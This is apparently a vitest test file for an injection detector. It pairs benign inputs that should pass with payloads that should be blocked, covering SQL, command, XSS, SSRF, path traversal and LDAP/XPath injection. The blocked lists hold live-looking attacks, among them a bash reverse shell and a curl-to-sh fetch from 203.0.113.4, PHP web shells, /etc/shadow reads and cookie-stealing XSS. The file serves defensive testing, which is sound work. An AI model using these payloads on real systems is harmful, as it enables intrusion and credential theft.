import { describe } from 'vitest';
import { blocksInArguments, blocksInBodies, passesInBodies } from '../testing/documents.ts';
import { blocks, passes } from '../testing/payloads.ts';

/** An injection continues what its host wrote; code that stands by itself is something that people send. */
describe('SQL in a body', () => {
  passesInBodies([
    'SELECT id, name FROM users WHERE id = 5;',
    "INSERT INTO fruit (name) VALUES ('apple'), ('pear');",
    "SET NAMES utf8mb4; INSERT INTO t (a) VALUES ('it');",
    'BEGIN; DELETE FROM sessions WHERE expires < now(); COMMIT;',
    'WITH t AS (SELECT 1 AS x UNION ALL SELECT 2) SELECT sum(x) FROM t;',
    "SELECT * FROM information_schema.tables WHERE table_schema = 'public';",
    "SELECT id, CASE WHEN id > 1 THEN 'a' ELSE 'b' END FROM t UNION SELECT 9, 'x';",
    'It works; select later. Thanks; select one, please',
    'Drop database access for contractors; thanks',
    'the phrase "union select" in quotes',
  ]);
  blocksInBodies('sql_injection', [
    '1; DROP TABLE users',
    'DROP TABLE users;--',
    "x'; INSERT INTO admins VALUES (1)--",
    "1' UNION SELECT password FROM users-- ",
    "select' union select password from users where 'a'='a",
    'SELECT sleep(5)',
    'SELECT load_file(0x2f6574632f706173737764)',
    "x'union select' ',2,3-- ",
    'sleep(5) rlike 1',
    "1);select user from mysql.user where ('1'='1",
  ]);
});

describe('programs in a body', () => {
  passesInBodies([
    '<?php function add($a, $b) { return $a + $b; } echo add(1, 2);',
    "<?php if (isset($_GET['page'])) { echo htmlspecialchars($_GET['page']); }",
    'import os, sys',
    '<?php foreach ($posts as $post): ?><h2><?= $post->title ?></h2><?php endforeach; ?>',
    'Caused by: java.lang.ClassNotFoundException: javax.naming.InitialContext',
    '#!/bin/bash\nset -eu\ncd "$(dirname "$0")"\ndocker compose up -d',
    'File "/app/x.py", line 3, in run\n    os.system("make")\nNameError',
  ]);
  blocksInBodies('command_injection', [
    "<?php system($_GET['c']); ?>",
    '<?php eval($_POST["x"]);',
    '<?=`$_GET[0]`?>',
    '<?= $_GET["c"] ?>',
    '${{<%[%\'"}}%\\.',
    "<?php $f=$_GET['f'];$f($_GET['x']);",
    "<?php $_GET['f']($_GET['x']);",
    'import os; os.system("id")',
    "require('fs').readdirSync('.')",
    "x=require('child_process')",
  ]);
});

describe('command lines', () => {
  passesInBodies([
    'kubectl get pods -n prod | grep -v Running',
    "ps aux | grep java | awk '{print $2}' | xargs kill",
    'curl -X POST https://api.example.com/v1/items -d "a=1"',
    'I would use "grep -r foo . | wc -l" to count.',
    'check `$(pwd)` before',
    'run: |\n  echo done\n',
    'Is there a way to script it? With cron & curl',
    '`chmod 777` lets anyone write; use `chmod 755`.',
    'Steps:\nexport VAR=1; echo "$VAR" | tee out.txt\n',
    'mkdir -p /tmp/a && cp -r /src/* /tmp/a; exec nginx',
    'grep -r "foo" . | sort | uniq -c | head -n 20',
    '[code]sudo mount /dev/sda1 /mnt; ls -la /mnt[/code]',
    'run: npm ci && npm run build && cp -r dist out',
    'tsc -p . && cp -r public dist',
    '<p>We are open <b>9&ndash;17</b>; call <a href="tel:123">us</a>!</p>',
    'total 4\nroot:x:0:0:root:/root:/bin/bash\nmia:x:1000:1000::/home/mia:/bin/bash',
  ]);
  blocksInBodies('command_injection', [
    '127.0.0.1 | grep -r password /etc',
    "x'; ps aux | nc 10.0.0.1 4444 #",
    '8.8.8.8;/bin/sh -c id',
    'git status;cat /etc/passwd',
    'docker ps; whoami',
    'x && echo pwned > /tmp/p',
    'x;env|grep AWS',
    '`chmod 777 /tmp/x`',
    '"; cat /etc/passwd; echo "',
    'a | nslookup x.example.net',
    'grep -r x .; cat /etc/shadow',
    'tsc && curl http://203.0.113.4/x | sh',
    'explain: ls -la; bash -i >& /dev/tcp/203.0.113.4/9 0>&1',
    '[code]ls -l; cat /etc/passwd[/code]',
    'x; cat <b.txt',
    '--help;busybox telnetd -l /bin/sh -p 2323',
    '1\n/bin/bash',
  ]);
  blocks('command_injection', ['ps aux | grep root', 'ls -la; cat config.php', '/bin/sh -c id']);
});

describe('what an attacker writes in front of an injection', () => {
  const openings = ['git x ', 'npm x ', 'ls a', 'curl x ', '$ ls x ', '#!/', '#!/x\n', 'I use "git x '];
  const injections = [';cat /etc/passwd', '$(id)', '; sleep 5', '|| whoami', '| nslookup x.example.net'];
  const commands = openings.flatMap((opening) => injections.map((injection) => opening + injection));
  blocksInArguments('command_injection', commands);
  blocks('command_injection', commands);
  blocksInArguments('sql_injection', [
    "select x' union select password from users where 'a'='a",
    'select 1) union select password from users where (1=1',
    "select 1' or '1'='1",
    "begin; x' or 1=1-- ",
    "select x'; drop table users; select '",
  ]);
});

describe('markup of editors', () => {
  passesInBodies([
    '<a href="#" onclick="return false;">link</a>',
    '<button onclick="toggleMenu(this, 2)">Menu</button>',
    '<p onmouseover="">x</p>',
    '<iframe src="https://player.example.com/video/1" width="640" allowfullscreen></iframe>',
    '<iframe style="border:0" width="100%" src="https://maps.example.com/embed?pb=1" loading="lazy"></iframe>',
    'See <a href="http://localhost:3000">http://localhost:3000</a> or <a href=\'http://192.168.1.1/\'>the router</a>',
    'Use Runtime.getRuntime().availableProcessors() to size your pool',
    '<img src="/logo.svg" onerror="this.style.display=\'none\'">',
    '<img src="/a.png" onerror="this.onerror=null;this.src=\'/fallback.png\';">',
    '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter:wght@400;700&display=swap">',
    'Warning: <script> in render; it fails <b>here</b>',
    '<pre><code class="language-js">console.log(1);</code></pre>',
    'background:url("data:image/svg+xml;utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")',
    'The document.cookie API is awful',
    'Why is alert(1) the usual test?',
    "const raw = get('user:1');\nconsole.log(raw);",
    "var http = require('http')\nvar onFinished = require('on-finished')",
    'get(target, name) { return Reflect.get(target, name); }',
    'This does not create the `<script>` framing (see below).',
  ]);
  blocksInBodies('xss', [
    '<a href="#" onclick="alert(1)">x</a>',
    '<img src=x onerror="fetch(\'//x.example/\')">',
    '<button onclick="toggleMenu(alert(1))">x</button>',
    '<img src=x onerror="this.src=\'//x.example/?\'+document.cookie">',
    '<img src=x onerror="this.onerror=null;alert(1)">',
    '<a onmouseover="this.href=\'javascript:alert(1)\'">x</a>',
    '<button onclick="toggleMenu();alert(1)">x</button>',
    '<a onclick="open(\'//x.example\')">x</a>',
    '<p onclick="toggle`1`">x</p>',
    '<link rel=stylesheet href=//x.example/a>',
    '<script> day </script>',
    '<script> a <b; fetch(name) //',
    "';x='';fetch('//x.example/'+name)//",
    "');alert(1)//",
    '"-alert(document.cookie)-"',
    'x=document.cookie',
  ]);
});

describe('what names other machines and places', () => {
  passesInBodies([
    'The URL was http://192.168.1.1/admin and it asked for a password.',
    'server { location / { proxy_pass http://127.0.0.1:3000; } }',
    "console.log(config); // { apiUrl: 'http://localhost:3000' }",
    'we did not decode "file:///path/to/repo" correctly',
    'postgres://user:p@db.internal:5432/app',
    'redis://localhost:6379/0',
    'ldap://dc1.corp.local:389',
    'see `/etc/mysql/my.cnf` for this',
  ]);
  blocksInBodies('ssrf', [
    'http://127.0.0.1:3000/',
    '<img src="http://192.168.1.1/admin">',
    'http://user@127.0.0.1:80@public.example/',
    'gopher://127.0.0.1:6379/_x',
    'ldap://127.0.0.1:389/dc=x',
  ]);
  blocks('path_traversal', ['/var/log/apache2/access.log', '/etc/nginx/nginx.conf']);
  blocksInBodies('path_traversal', [
    '/etc/passwd',
    '../../var/log/apache2/access.log',
    '..;/..;/manager/html',
  ]);
});

describe('filters and paths of other languages', () => {
  passes([
    '(&(objectClass=person)(|(cn=Smith*)(mail=*@example.com)))',
    '(&(uid=*)(!(employeeType=contractor)))',
    "//div[@class='item']/a[contains(text(),'Next')]",
    'org.springframework.dao.DataIntegrityViolationException',
    'java.lang.NullPointerException',
  ]);
  blocks('ldap_injection', [
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '(&(uid=admin)(userPassword=*))',
    '(objectClass=*)',
    "x'] | //user[name='a",
    "//a['] | //user/*[contains(*,'",
  ]);
  blocks('command_injection', ['com.sun.rowset.JdbcRowSetImpl', 'org.apache.commons.dbcp.BasicDataSource']);
});
